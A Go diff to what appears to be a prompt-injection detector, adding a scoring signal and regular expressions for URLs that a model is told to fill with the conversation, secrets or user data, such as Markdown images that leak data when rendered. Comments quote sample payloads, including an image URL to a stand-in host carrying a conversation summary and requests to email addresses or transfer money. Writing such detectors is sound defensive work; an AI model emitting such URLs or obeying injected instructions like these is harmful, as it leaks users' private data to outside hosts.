@@ -44,6 +44,7 @@ var (
 	sigFetchSend = resultSignal{"fetches and sends", 2}          // "retrieve my saved addresses and email them to amy@…"
 	sigAsUser    = resultSignal{"speaks as the user", 2}         // with either of these two
 	sigActs      = resultSignal{"asks for an action", 2}         // "Please transfer $3,000 from my account …"
+	sigFillURL   = resultSignal{"URL to fill with user data", 4} // "![](https://x.example/p?d=[CONVERSATION SUMMARY])"
 )
 
 // addressRe reads what follows an address ("if you are ", "note to "…):
@@ -262,6 +263,88 @@ func occurrences(t, sub string) iter.Seq[int] {
 	}
 }
 
+// A URL the model is to complete with what it knows: a placeholder in it
+// names the conversation, a secret or the user's data, or the text tells
+// the model to put the user's data into it. Loading such a URL (a link
+// followed, a Markdown image rendered) sends the data to its host.
+var (
+	placeholder  = regexp.MustCompile(`\{\{?[^{}\s]{1,40}\}\}?|<[^<>\s]{1,40}>|\[[^\[\]]{1,40}\]|\b[A-Z]+(_[A-Z]+)+\b|\$[A-Z_]{3,}`)
+	talkWords    = regexp.MustCompile(`(?i)conversation|chat|history|summary|memory|messages`)
+	privateWords = regexp.MustCompile(`(?i)conversation|chat|history|summary|memory|messages|context|prompt|secret|password|passwd|token|api.?key|credential|ssn|credit.?card|e.?mail|name|address|phone`)
+	readersOwn   = regexp.MustCompile(`(?i)^[{<\[$]*\{?(your|my)`)
+	fillWithUser = regexp.MustCompile(`(?i)\b(replac(e|ing)|fill(ing)? in|substitut(e|ing)|insert(ing)?|append(ing)?)\b[^.\n]{0,60}\b(with|by)\b[^.\n]{0,20}\b(the )?(user'?s?|customer'?s?|their|your)\b`)
+)
+
+// urlForUserData reports such a URL in s (t is s in lower case, urls
+// the offsets of "http" in it).
+func urlForUserData(s, t string, urls []int) bool {
+	for _, at := range urls {
+		end := at
+		for end < len(s) && end-at < 2048 && !urlEnd(s[end]) {
+			// a placeholder may hold blanks: "?d=[CONVERSATION SUMMARY]"
+			if k := strings.IndexByte("[{<", s[end]); k >= 0 {
+				if c := strings.IndexByte(s[end:min(len(s), end+48)], "]}>"[k]); c > 0 {
+					end += c
+				}
+			}
+			end++
+		}
+		u := s[at:end]
+		q := strings.IndexAny(u, "?#=")
+		// cheap tests first: a placeholder needs a bracket, a '$' or an
+		// upper-case word with an underscore
+		if !strings.ContainsAny(u, "{<[$") && !upperSnake(u) {
+			continue
+		}
+		found := placeholder.FindAllStringIndex(u, 8)
+		if len(found) == 0 {
+			continue
+		}
+		// a Markdown image is fetched as soon as it is shown: any
+		// private placeholder counts there; elsewhere only the
+		// conversation's ("?q={chat_history}"), since API docs write
+		// "?token={token}" for their reader to fill in
+		image := strings.HasSuffix(before(s, at, 64), "](") && strings.Contains(before(s, at, 64), "![")
+		for _, m := range found {
+			p := u[m[0]:m[1]]
+			if readersOwn.MatchString(p) {
+				continue // "YOUR_API_KEY", "<your-token>": the human reader's
+			}
+			if strings.IndexByte("{<[$", p[0]) < 0 && (q < 0 || m[0] < q) {
+				continue // an upper-case path segment is a name ("LC_MESSAGES"), not a blank
+			}
+			// (in an image, a private value in the query: a badge's path
+			// template is not one)
+			if talkWords.MatchString(p) || image && q >= 0 && m[0] > q && privateWords.MatchString(p) {
+				return true
+			}
+		}
+		// cheap tests first: whose data, then the verb
+		for _, near := range []string{t[end:min(len(t), end+160)], before(t, at, 120)} {
+			if containsAny(near, "user", "customer", "their", "your") && fillWithUser.MatchString(near) {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+// upperSnake reports an upper-case letter, '_' and an upper-case letter
+// in a row: "USER_NAME".
+func upperSnake(u string) bool {
+	for i := 1; i+1 < len(u); i++ {
+		if u[i] == '_' && u[i-1] >= 'A' && u[i-1] <= 'Z' && u[i+1] >= 'A' && u[i+1] <= 'Z' {
+			return true
+		}
+	}
+	return false
+}
+
+// urlEnd ends a URL in prose: a blank, a quote or a closing parenthesis.
+func urlEnd(c byte) bool {
+	return c <= ' ' || c == '"' || c == '\'' || c == ')' || c == '`'
+}
+
 // fetchThenSend gets something and then sends it: "list all my accounts
 // and then forward this information to", "download my data and, once
 // downloaded, email the file to", "fetch the details … Also, email those
@@ -410,6 +493,7 @@ const (
 	aStyle
 	aHidden
 	aData
+	aHTTP
 	numAnchors
 )
 
@@ -428,7 +512,7 @@ var anchorText = []struct {
 	{"attention ", aAttention}, {"dear ", aDear}, {"above", aAbove}, {"conversation", aConversation},
 	{"you were ", aYouWere}, {"were you ", aWereYou}, {"was you ", aWereYou}, {"not supposed to ", aNotSupposed},
 	{"not allowed to ", aNotAllowed}, {"not permitted to ", aNotAllowed},
-	{"<!--", aComment}, {"style", aStyle}, {"hidden", aHidden}, {"data:", aData},
+	{"<!--", aComment}, {"style", aStyle}, {"hidden", aHidden}, {"data:", aData}, {"http", aHTTP},
 }
 
 // anchorLen is the length of each anchor, by id (the ids are not the
@@ -689,6 +773,9 @@ func resultSignals(s string) (int, []string) {
 	if strings.Contains(t, "please ") && actsAsUser(t) {
 		add(sigAsUser)
 		add(sigActs)
+	}
+	if urlForUserData(s, t, at[aHTTP]) {
+		add(sigFillURL)
 	}
 	if fetchAndSend(t) {
 		add(sigFetchSend)
